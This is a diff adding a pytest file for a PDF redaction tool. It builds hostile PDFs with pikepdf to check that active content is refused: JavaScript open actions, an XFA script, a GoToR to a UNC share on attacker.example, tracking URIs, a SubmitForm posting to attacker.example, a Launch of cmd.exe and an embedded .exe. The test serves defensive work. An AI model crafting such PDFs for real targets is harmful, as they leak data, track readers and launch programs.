@@ -1,0 +1,153 @@
+"""Issue 30: active content is refused at the door, whatever carries it. Each class is built
+with pikepdf, the way an attacker would write it."""
+
+from __future__ import annotations
+
+import io
+
+import pikepdf
+import pytest
+
+from redactor.core.active_content import find_active_content, refuse_active_content
+from redactor.core.errors import ActiveContentError
+from tests.pdfs import pdf_from_paragraphs
+
+N = pikepdf.Name
+CONTRACT = pdf_from_paragraphs(["Kupní smlouva č. 2026/15", "Kupující: Obec Horní Lhota, IČO: 00000001"])
+
+
+def _edit(change) -> bytes:
+    """The contract with ``change(pdf)`` applied, saved as a new file."""
+    pdf = pikepdf.open(io.BytesIO(CONTRACT))
+    change(pdf)
+    out = io.BytesIO()
+    pdf.save(out)
+    return out.getvalue()
+
+
+def _javascript_action(pdf) -> pikepdf.Dictionary:
+    return pdf.make_indirect(pikepdf.Dictionary(S=N.JavaScript, JS=pikepdf.String("app.launchURL('x')")))
+
+
+def _annotation(pdf, **fields) -> None:
+    page = pdf.pages[0]
+    annotation = pdf.make_indirect(
+        pikepdf.Dictionary(Type=N.Annot, Subtype=N.Link, Rect=[72, 700, 200, 720], Border=[0, 0, 0], **fields)
+    )
+    page.obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))
+
+
+def _xfa(pdf) -> None:
+    xfa = pdf.make_stream(b'<xdp:xdp><script contentType="application/x-javascript">app.alert(1)</script></xdp:xdp>')
+    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa))
+
+
+def _scripted_pdf() -> bytes:
+    def script(pdf):
+        pdf.Root.OpenAction = _javascript_action(pdf)
+
+    return _edit(script)
+
+
+def _embedded_pdf_with_a_script(pdf) -> None:
+    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, _scripted_pdf(), mime_type="application/pdf")
+
+
+def _goto_embedded_with_a_script(pdf) -> None:
+    _embedded_pdf_with_a_script(pdf)
+    target = pikepdf.Dictionary(R=N.C, N=pikepdf.String("priloha.pdf"))
+    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=N.GoToE, D=[0, N.Fit], T=target))
+
+
+def _goto_remote_unc(pdf) -> None:
+    spec = pikepdf.Dictionary(Type=N.Filespec, F=pikepdf.String("\\\\attacker.example\\share\\a.pdf"))
+    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=N.GoToR, F=spec, D=[0, N.Fit]))
+
+
+def _uri_open_action(pdf) -> None:
+    pdf.Root.OpenAction = pdf.make_indirect(
+        pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://tracker.example/open?id=1"))
+    )
+
+
+def _uri_on_page_open(pdf) -> None:  # a page's additional action, with the URI behind a /Next
+    first = pikepdf.Dictionary(S=N.GoTo, D=[pdf.pages[0].obj, N.Fit])
+    first.Next = pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://tracker.example/page"))
+    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=first)
+
+
+def _script_in_an_annotation(pdf) -> None:
+    _annotation(pdf, A=_javascript_action(pdf))
+
+
+def _launch(pdf) -> None:
+    _annotation(pdf, A=pikepdf.Dictionary(S=N.Launch, F=pikepdf.String("cmd.exe")))
+
+
+def _rich_media(pdf) -> None:
+    page = pdf.pages[0]
+    page.obj.Annots = pikepdf.Array(
+        [pdf.make_indirect(pikepdf.Dictionary(Type=N.Annot, Subtype=N.RichMedia, Rect=[0, 0, 10, 10]))]
+    )
+
+
+def _submit_form(pdf) -> None:
+    field = pdf.make_indirect(
+        pikepdf.Dictionary(
+            FT=N.Btn,
+            T=pikepdf.String("odeslat"),
+            A=pikepdf.Dictionary(S=N.SubmitForm, F=pikepdf.String("https://attacker.example/")),
+        )
+    )
+    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([field])))
+
+
+def _program_attachment(pdf) -> None:
+    pdf.attachments["faktura.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")
+
+
+ACTIVE = {
+    "XFA form with a script": (_xfa, ["XFA"]),
+    "GoToE to an embedded PDF whose open action is JavaScript": (_goto_embedded_with_a_script, ["GoToE", "JavaScript"]),
+    "GoToR to a network share on opening": (_goto_remote_unc, ["GoToR"]),
+    "URI open action (a tracking address)": (_uri_open_action, ["URI (automatic)"]),
+    "URI behind /Next of a page-open action": (_uri_on_page_open, ["URI (automatic)"]),
+    "JavaScript in an annotation": (_script_in_an_annotation, ["JavaScript"]),
+    "JavaScript in an embedded PDF": (_embedded_pdf_with_a_script, ["JavaScript"]),
+    "Launch action": (_launch, ["Launch"]),
+    "rich media": (_rich_media, ["RichMedia"]),
+    "submit form": (_submit_form, ["SubmitForm"]),
+    "an embedded program": (_program_attachment, ["embedded program"]),
+}
+
+
+@pytest.mark.parametrize("case", ACTIVE)
+def test_each_class_of_active_content_is_found_and_refused(case):
+    change, kinds = ACTIVE[case]
+    data = _edit(change)
+    assert find_active_content(data) == sorted(kinds)
+    with pytest.raises(ActiveContentError) as refused:
+        refuse_active_content(data)
+    assert refused.value.kinds == sorted(kinds) and "printing it to PDF" in str(refused.value)
+
+
+def _link(pdf) -> None:
+    _annotation(pdf, A=pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://www.hornilhota.cz/")))
+
+
+def _plain_attachment(pdf) -> None:
+    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, CONTRACT, mime_type="application/pdf")
+
+
+def _outline_to_a_page(pdf) -> None:
+    with pdf.open_outline() as outline:
+        outline.root.append(pikepdf.OutlineItem("Článek 1", 0))
+
+
+@pytest.mark.parametrize(
+    "change", [_link, _plain_attachment, _outline_to_a_page], ids=["link on a click", "PDF attachment", "outline"]
+)
+def test_what_an_ordinary_contract_carries_is_not_active(change):
+    """A web link followed on a click (Word exports them for web and e-mail addresses), an
+    attached PDF without scripts, bookmarks: accepted (the published PDF drops them anyway)."""
+    assert find_active_content(_edit(change)) == []
